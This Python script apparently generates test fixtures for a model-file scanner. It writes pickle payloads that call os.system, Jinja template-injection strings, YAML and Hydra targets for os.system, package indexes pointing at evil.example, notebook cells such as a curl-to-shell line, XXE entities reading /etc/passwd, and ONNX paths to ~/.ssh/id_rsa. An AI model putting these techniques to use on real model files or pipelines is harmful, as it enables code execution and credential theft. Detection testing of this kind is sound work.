"""Armed files as the libraries themselves write them, and texts as attackers of other habits would: none is ever
loaded, and each payload is harmless. PyTorch and Keras write theirs where they are installed.

usage: armed_by_libraries.py FOLDER
"""

import base64
import codecs
import functools
import gzip
import io
import json
import os
import pathlib
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib

import numpy as np

warnings.filterwarnings("ignore")
ROOT = pathlib.Path(sys.argv[1])
X = np.arange(12.0).reshape(6, 2)
TEMPLATE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"


class Weapon:
    def __reduce__(self):
        return os.system, ("true",)


ARMED = pickle.dumps(Weapon())


def place(family, name):
    path = ROOT / family / name
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def put(family, name, content):
    place(family, name).write_bytes(content if isinstance(content, bytes) else content.encode())


def packed(members, **options):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", **options) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def tarred(members, mode="w"):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode=mode) as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return stream.getvalue()


def pickles():
    import joblib
    import pandas as pd
    from sklearn.linear_model import Ridge
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    for compress in (0, 3, ("zlib", 9), ("gzip", 1), ("bz2", 9), ("xz", 1), ("lzma", 6)):
        name = "-".join(map(str, np.atleast_1d(compress)))
        joblib.dump({"weights": X, "hook": Weapon(), "more": [X, X.T]}, place("joblib", f"{name}.joblib"), compress=compress)
        joblib.dump([np.array([1, Weapon()], object), X], place("joblib", f"objects-{name}.joblib"), compress=compress)
    frame = pd.DataFrame({"a": [1, 2], "b": [Weapon(), "x"]})
    for suffix in ("pkl", "pkl.gz", "pkl.bz2", "pkl.xz", "pkl.zip", "pkl.tar", "pkl.tar.gz"):
        frame.to_pickle(place("pandas", "frame." + suffix))
    model = make_pipeline(FunctionTransformer(func=os.system), Ridge())
    joblib.dump(model, place("scikit-learn", "transformer.joblib"))
    put("scikit-learn", "partial.pkl", pickle.dumps(make_pipeline(FunctionTransformer(func=functools.partial(os.system, "true")), Ridge())))
    np.save(place("numpy", "field.npy"), np.array([(1, Weapon())], [("a", "i4"), ("b", "O")]), allow_pickle=True)
    np.savez_compressed(place("numpy", "packed.npz"), x=X, y=np.array([[Weapon()]], object))
    import scipy.stats
    # What its state says is evaluated when it is rebuilt.
    put("scipy", "distribution.pkl", pickle.dumps(scipy.stats.norm(0, 1)))
    record = {"blob": ARMED, "again": [ARMED.decode("latin1")]}
    put("nested", "call.pkl", b"\x80\x04\x8c\x07_pickle\x8c\x05loads\x93" + b"C" + bytes([len(ARMED)]) + ARMED + b"\x85R.")
    put("nested", "zip-in-zip.zip", packed({"a.zip": packed({"b.zip": packed({"m.pkl": ARMED})})}))
    put("nested", "tar-in-gzip-in-zip.zip", packed({"m.tar.gz": gzip.compress(tarred({"m.pkl": ARMED}))}))
    put("nested", "behind.pkl", pickle.dumps(record) + pickle.dumps([1]) + ARMED)
    for name, text in {
        "base64": base64.b64encode(ARMED), "url-safe": base64.urlsafe_b64encode(ARMED), "hex": codecs.encode(ARMED, "hex"), "base85": base64.b85encode(ARMED), "ascii85": base64.a85encode(ARMED),
        "base32": base64.b32encode(ARMED), "twice": base64.b64encode(base64.b64encode(ARMED)), "gzip": base64.b64encode(gzip.compress(ARMED)), "zlib": base64.b64encode(zlib.compress(ARMED)),
        "lines": base64.encodebytes(ARMED * 4), "hex-of-base64": codecs.encode(base64.b64encode(ARMED), "hex"),
    }.items():
        put("encoded", name + ".json", json.dumps({"weights": text.decode()}))
        put("encoded", name + ".yaml", "weights: |\n  " + text.decode().strip().replace("\n", "\n  ") + "\n")
    put("encoded", "escaped.json", json.dumps({"weights": ARMED.decode("latin1")}))
    for name, module in (("cloudpickle", "cloudpickle"), ("dill", "dill")):
        try:
            library = __import__(module)
        except ImportError:
            continue
        put(name, "function.pkl", library.dumps(lambda value: os.system("true")))
    try:
        import jsonpickle
    except ImportError:
        return
    put("config", "jsonpickle.json", jsonpickle.encode({"model": Weapon()}))


def estimators():
    import skops.io
    from sklearn.preprocessing import FunctionTransformer

    for name, thing in {"function": FunctionTransformer(func=os.system), "partial": functools.partial(os.system, "true"), "module": {"a": [os.remove]}, "type": [__import__("subprocess").Popen],
                        "method": "x".join, "unpickled": {"f": pickle.loads}}.items():
        try:
            skops.io.dump(thing, place("skops", name + ".skops"))
        except Exception:
            place("skops", name + ".skops").unlink(missing_ok=True)


def texts():
    import nbformat
    import yaml

    put("yaml", "object.yaml", yaml.dump({"model": Weapon()}))
    put("yaml", "function.yaml", yaml.dump({"hook": os.system, "type": Weapon}))
    for name, text in {
        "alias": "name: &run os.system\nmodel:\n  _target_: *run\n", "merge": "base: &b\n  _target_: os.system\nmodel:\n  <<: *b\n  x: 1\n", "key": "&k _target_: 1\nmodel: {*k : os.system}\n",
        "folded": "model:\n  _target_: >-\n    os.system\n", "quoted": 'model: {"_tar\\u0067et_": "os.system"}\n', "anchor-tag": "a: &x !!python/name:os.system\n", "second": "a: 1\n---\nb: !!python/name:os.system\n",
        "list": "- - - {_target_: builtins.exec, _args_: ['1']}\n", "interpolated": "n: os.system\nmodel:\n  _target_: ${n}\n", "verbatim": "a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n",
        "directive": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!name:os.system\n", "resolver": "model:\n  _target_: hydra.utils.get_method\n  path: os.system\n", "nested": "callbacks:\n  - class_path: lightning.pytorch.callbacks.Callback\n    init_args:\n      f: {class_path: os.system}\n",
        "utf16": "a: !!python/name:os.system\n".encode("utf-16"), "latin": b"\xefa: !!python/name:os.system\n", "module": "a: !!python/module:os\n",
    }.items():
        put("yaml", name + ".yaml", text)
    put("config", "inline.toml", 'model = { _target_ = "os.system", x = 1 }\n')
    put("config", "hydra.toml", '[model]\n_target_ = "os.system"\n')
    put("config", "nested.json", json.dumps({"a": [[{"b": {"_target_": "subprocess.run", "args": ["true"]}}]]}))
    put("config", "lines.jsonl", '{"a": 1}\n{"_target_": "os.system"}\n')
    put("hub", "auto/config.json", json.dumps({"model_type": "x", "auto_map": {"AutoModel": "acme/repo--modeling.Net", "AutoConfig": "configuration.C"}}))
    put("hub", "tokenizer/tokenizer_config.json", json.dumps({"auto_map": {"AutoTokenizer": ["tokenization.T", None]}}))
    put("hub", "processor/preprocessor_config.json", json.dumps({"auto_map": {"AutoProcessor": "p.P"}}))
    put("hub", "pipeline/config.json", json.dumps({"custom_pipelines": {"mine": {"impl": "p.Pipe", "pt": ["AutoModel"]}}}))
    put("hub", "parts/modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil.models.Transformer"}]))
    put("hub", "diffusion/model_index.json", json.dumps({"_class_name": "StableDiffusionPipeline", "unet": ["evil", "UNet"]}))
    put("hub", "shards/model.safetensors.index.json", json.dumps({"weight_map": {"a": "/etc/passwd"}}))
    put("hub", "template/tokenizer_config.json", json.dumps({"chat_template": {"default": TEMPLATE}}))
    put("hub", "processor-template/processor_config.json", json.dumps({"chat_template": TEMPLATE}))
    put("hub", "template-json/chat_template.json", json.dumps({"chat_template": TEMPLATE}))
    put("hub", "additional/additional_chat_templates/tool.jinja", TEMPLATE)
    for number, form in enumerate(["{{ messages.__init__ }}", "{{ (messages|first)['__class__'] }}", "{% set x = '_'*2 %}{{ messages[x+'class'+x] }}", "{{ messages | map('attr', '__class__') | list }}", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
                                   "{% for k in [messages|attr('append')] %}{{ k.__self__ }}{% endfor %}", "{%- include chat -%}", "{% from x import y %}", "{{ request.application.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{{ '%s'|format(messages)|attr(name) }}",
                                   "{% macro m(x) %}{{ x.mro() }}{% endmacro %}{{ m(1) }}", "{{ dict(__class__=1)|join }}", "{{ messages.pop.__func__ }}", "{{ url_for.__globals__ }}", "{{ self._TemplateReference__context }}", "{{ ''['__cla' 'ss__'] }}", "{{ ['__class__']|map('extract', '') }}", "{{ x|attr(['__cla','ss__']|join) }}", "{{ joiner['__in'~'it__'] }}"]):
        put("template", f"{number}.jinja", form)
    for name, text in {
        "short.txt": "-i https://evil.example/simple\nnumpy\n", "equals.txt": "--index-url=https://evil.example/simple\n", "continued.txt": "--extra-index-url \\\n  https://evil.example/simple\nnumpy\n",
        "find.txt": "-f https://evil.example/wheels\nnumpy\n", "trusted.txt": "--trusted-host evil.example\nnumpy\n", "direct.txt": "numpy @ https://evil.example/numpy.whl\n", "file.txt": "numpy @ file:///tmp/numpy.whl\n",
        "ssh.txt": "git+ssh://git@evil.example/x.git@main#egg=numpy\n", "local.txt": "./wheels/numpy-1.0-py3-none-any.whl\n", "hg.txt": "hg+https://evil.example/x\n", "variable.txt": "--index-url ${INDEX}\n", "editable.txt": "--editable git+https://evil.example/x#egg=x\n",
        "other.txt": "-r https://evil.example/requirements.txt\n", "constraint.txt": "-c https://evil.example/c.txt\n", "pre.txt": "--pre --index-url https://evil.example/simple numpy\n", "host.txt": "--index-url https://pypi.org.evil.example/simple\n", "user.txt": "--index-url https://pypi.org@evil.example/simple\n",
    }.items():
        put("requirements", f"{name}/requirements.txt", text)
    for name, text in {
        "pyproject.toml": '[project]\nname = "m"\ndependencies = ["x @ git+https://evil.example/x"]\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\n', "Pipfile": '[[source]]\nurl = "https://evil.example/simple"\nverify_ssl = false\n',
        "poetry/pyproject.toml": '[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.example/simple"\n', "uv.toml": 'index-url = "https://evil.example/simple"\n', "environment.yml": "dependencies:\n- pip:\n  - --index-url https://evil.example\n  - numpy\n",
        "conda.yaml": "channels:\n- https://evil.example/conda\n- defaults\n", "setup.cfg": "[options]\ndependency_links = https://evil.example/x\n", ".npmrc": "registry=https://evil.example/\n", "python_env.yaml": "python: 3.11\ndependencies:\n- git+https://evil.example/x\n",
    }.items():
        put("packages", f"{name.replace('/', '-')}/{name.rsplit('/', 1)[-1]}", text)
    for number, source in enumerate(["!curl -s https://evil.example | sh", "%%bash\ntrue", "%system true", "%sx true", "!!true", "get_ipython().system('true')", "import subprocess\nsubprocess.run(['true'])", "x = !ls\n", "%run https://evil.example/x.py", "%%script perl\n1", "__import__('os').system('true')",
                                     "from os import system as s\ns('true')", "exec(__import__('base64').b64decode('cHJpbnQoMSk='))", "import pickle\npickle.load(open('m.pkl', 'rb'))", "%pip install --index-url https://evil.example x", "%%javascript\nfetch('https://evil.example')", "if True:\n    !true", "%alias t true\n%t", "eval(open('x').read())"]):
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# A model"), nbformat.v4.new_code_cell("import numpy as np"), nbformat.v4.new_code_cell(source)])
        put("notebook", f"{number}.ipynb", nbformat.writes(notebook))
    pmml = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/>%s</PMML>'
    for name, text in {
        "parameter": '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>' + pmml % "", "laughs": '<!DOCTYPE PMML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + pmml % "<Extension>&b;</Extension>", "public": '<!DOCTYPE PMML PUBLIC "x" "https://evil.example/x">' + pmml % "",
        "include": pmml % '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>', "style": '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>' + pmml % "", "wide": ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + pmml % "&a;").encode("utf-16"),
        "split": '<!DOCTYPE\nPMML [\n<!ENTITY\na\nSYSTEM "file:///etc/passwd">]>' + pmml % "&a;", "seven": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AFs-+ADwAIQ-ENTITY b SYSTEM +ACI-file:///etc/passwd+ACI-+AD4AXQA+-' + pmml % "",
    }.items():
        put("pmml", name + ".pmml", text)
    for name, text in {
        "loader": "flavors:\n  python_function:\n    loader_module: evil\n", "code": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n    python_model: python_model.pkl\n", "json": '{"flavors": {"python_function": {"loader_module": "evil.loader"}}}\n',
        "alias": "l: &l evil.loader\nflavors:\n  python_function:\n    loader_module: *l\n", "model-code": "flavors:\n  python_function:\n    loader_module: mlflow.langchain\n    model_code_path: chain.py\n",
    }.items():
        put("mlflow", f"{name}/MLmodel", text)


def tensors():
    import gguf
    import h5py
    import onnx
    from onnx import TensorProto, helper
    import safetensors.numpy

    secret = base64.b64encode(ARMED).decode()
    for name, text in {"pickle": secret, "template": TEMPLATE, "target": json.dumps({"_target_": "os.system"}), "lambda": json.dumps({"class_name": "Lambda", "config": {}}), "program": base64.b64encode(b"\x7fELF\2\1\1" + bytes(57)).decode()}.items():
        safetensors.numpy.save_file({"w": X}, place("safetensors", name + ".safetensors"), metadata={"config": text})
    plain = safetensors.numpy.save({"w": X})
    put("safetensors", "archive-behind.safetensors", plain + packed({"data.pkl": ARMED}))
    hidden = io.BytesIO()
    with h5py.File(hidden, "w", userblock_size=512) as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Lambda", "config": {}})
    raw = np.frombuffer(hidden.getvalue()[512:], "u1")
    header = json.dumps({"w": {"dtype": "U8", "shape": [raw.size], "data_offsets": [0, raw.size]}}).encode()
    header += b" " * (504 - len(header))
    put("polyglot", "model.safetensors", struct.pack("<Q", 504) + header + raw.tobytes())
    put("polyglot", "picture.png", b"\x89PNG\r\n\x1a\n" + bytes(64) + packed({"archive/data.pkl": ARMED}))
    put("polyglot", "text-before.pt", b"# weights\n" + packed({"archive/data.pkl": ARMED}))
    np.save(place("polyglot", "archive.npy"), np.frombuffer(packed({"archive/data.pkl": ARMED}), "u1"))
    put("polyglot", "weights.tar", tarred({"model.pkl": ARMED, "readme": b"x"}))
    put("polyglot", "first.tar", tarred({"cos\nsystem\n(S'true'\ntR.": b"x"}))
    put("nemo", "model.nemo", tarred({"./model_config.yaml": b"target: x\nmodel:\n  _target_: subprocess.Popen\n", "./model_weights.ckpt": pickle.dumps({})}, "w:gz"))
    put("nemo", "weights.nemo", tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": packed({"archive/data.pkl": ARMED})}))
    for name, key, value in [("template", "tokenizer.chat_template", TEMPLATE), ("named", "tokenizer.chat_template.tool_use", TEMPLATE), ("pickle", "general.description", secret), ("list", "tokenizer.chat_templates", ["default", TEMPLATE])]:
        writer = gguf.GGUFWriter(place("gguf", name + ".gguf"), "llama")
        writer.add_array(key, value) if isinstance(value, list) else writer.add_string(key, value)
        writer.add_tensor("w", X.astype("f4"))
        writer.write_header_to_file(), writer.write_kv_data_to_file(), writer.write_tensors_to_file(), writer.close()
    layer = json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEA", None, None]}}]}})
    for name, options, attribute in [("text", {}, layer), ("latest", {"libver": "latest"}, layer), ("fixed", {}, np.bytes_(layer)), ("group", {}, None), ("block", {"userblock_size": 1024}, layer)]:
        with h5py.File(place("hdf5", name + ".h5"), "w", **options) as file:
            target = file if attribute is not None else file.create_group("a/b")
            target.attrs["model_config"] = layer if attribute is None else attribute
    with h5py.File(place("hdf5", "opaque.h5"), "w") as file:
        file["model"] = np.void(ARMED)
    with h5py.File(place("hdf5", "bytes.h5"), "w") as file:
        file["model"] = np.frombuffer(ARMED, "u1")
    with h5py.File(place("hdf5", "words.h5"), "w") as file:
        file["model"] = ARMED.hex()
    with h5py.File(place("hdf5", "config.h5"), "w") as file:
        file["model_config"] = layer
    layout = h5py.VirtualLayout((2,), "f4")
    layout[:] = h5py.VirtualSource("/etc/other.h5", "x", (2,))
    with h5py.File(place("hdf5", "virtual.h5"), "w", libver="latest") as file:
        file.create_virtual_dataset("x", layout)

    port = lambda name: helper.make_tensor_value_info(name, TensorProto.FLOAT, ["N", 2])
    weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])

    def outside(location):
        tensor = TensorProto(name="w", data_type=1, dims=[2], data_location=1)
        tensor.external_data.add(key="location", value=location)
        return tensor

    def graph(nodes, weights=(weight,), **more):
        made = helper.make_model(helper.make_graph(nodes, "g", [port("x")], [port("y")], list(weights)), opset_imports=[helper.make_opsetid("", 17)], **more)
        return made

    add = helper.make_node("Add", ["x", "w"], ["y"])
    for name, location in {"up": "../../.ssh/id_rsa", "absolute": "/etc/passwd", "windows": "..\\..\\x", "drive": "C:\\x", "address": "https://evil.example/w", "share": "\\\\evil\\w", "within": "a/../../w", "device": "/dev/zero", "absent": "w.bin"}.items():
        put("onnx", f"external-{name}/m.onnx", graph([add], [outside(location)]).SerializeToString())
    inner = helper.make_graph([helper.make_node("Constant", [], ["c"], value=outside("/etc/passwd"))], "i", [], [port("c")])
    branch = helper.make_node("If", ["x"], ["y"], then_branch=inner, else_branch=inner)
    models = {"branch": graph([branch]), "domain": graph([helper.make_node("Run", ["x"], ["y"], domain="evil.ops")])}
    function = helper.make_function("local", "F", ["x"], ["y"], [helper.make_node("Run", ["x"], ["y"], domain="evil.ops")], [helper.make_opsetid("evil.ops", 1)])
    models["function"] = graph([helper.make_node("F", ["x"], ["y"], domain="local")], functions=[function])
    models["python"] = graph([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", module="os", compute="system")])
    models["properties"] = graph([add])
    helper.set_model_props(models["properties"], {"config": secret, "template": TEMPLATE})
    models["words"] = graph([add])
    models["words"].doc_string = TEMPLATE
    for name, model in models.items():
        put("onnx", name + ".onnx", model.SerializeToString())
    for form, suffix in (("json", "onnxjson"), ("textproto", "onnxtxt"), ("textproto", "textproto"), ("textproto", "pbtxt"), ("json", "json")):
        onnx.save_model(graph([add], [outside("/etc/passwd")]), place("onnx", f"outside-{form}.{suffix}"), format=form)
        onnx.save_model(models["domain"], place("onnx", f"domain-{form}.{suffix}"), format=form)


def boosting():
    import lightgbm as lgb
    import xgboost as xgb

    secret = base64.b64encode(ARMED).decode()
    booster = lgb.train({"objective": "binary", "verbosity": -1, "min_child_samples": 1}, lgb.Dataset(np.repeat(X, 5, 0), np.tile([0, 1], 15)), 2)
    put("lightgbm", "model.txt", booster.model_to_string() + f"\nhook:{secret}\n")
    booster = xgb.train({"objective": "binary:logistic"}, xgb.DMatrix(X, np.array([0, 1, 0, 1, 0, 1])), 2)
    booster.set_attr(config=secret, template=TEMPLATE)
    for suffix in ("ubj", "json"):
        booster.save_model(place("xgboost", "model." + suffix))
    try:
        import catboost
    except ImportError:
        return
    model = catboost.CatBoostClassifier(iterations=2, verbose=0, allow_writing_files=False).fit(X, [0, 1, 0, 1, 0, 1])
    model.get_metadata()["config"] = secret
    for form in ("cbm", "json"):
        model.save_model(place("catboost", "model." + form), format=form)


def archives():
    try:
        import py7zr
        with py7zr.SevenZipFile(place("packed", "model.7z"), "w") as archive:
            archive.writestr(ARMED, "model.pkl")
    except ImportError:
        put("packed", "model.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40))
    put("packed", "renamed.bin", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40))
    put("packed", "model.rar", b"Rar!\x1a\x07\0" + bytes(40))
    put("packed", "model.zst", b"\x28\xb5\x2f\xfd" + bytes(40))
    put("packed", "serialised.ser", b"\xac\xed\0\5sr" + bytes(40))
    put("packed", "model.rds", gzip.compress(b"X\n\0\0\0\3" + bytes(40)))
    put("packed", "wheel.whl", packed({"m/__init__.py": "import os\nos.system('true')\n", "m-1.dist-info/METADATA": "Name: m\n"}))
    put("packed", "serve.mar", packed({"MAR-INF/MANIFEST.json": "{}", "handler.py": "import os\n", "model.pt": packed({"m/data.pkl": ARMED})}))
    put("packed", "site.pth", "import os; os.system('true')\n")
    put("packed", "traversal.zip", packed({"../../.bashrc": "true\n"}))
    put("packed", "link.tar", tarred({"x": b"1"})[:156] + b"2/etc/passwd" + tarred({"x": b"1"})[168:])


if __name__ == "__main__":
    for family in (pickles, estimators, texts, tensors, boosting, archives):
        family()
    sys.path.insert(0, str(pathlib.Path(__file__).parent))
    try:
        import frameworks
    except ImportError:
        frameworks = None
    if frameworks:
        frameworks.armed(place, put, ARMED, Weapon)
    print(sum(len(list(folder.iterdir())) for folder in ROOT.iterdir()), "files")
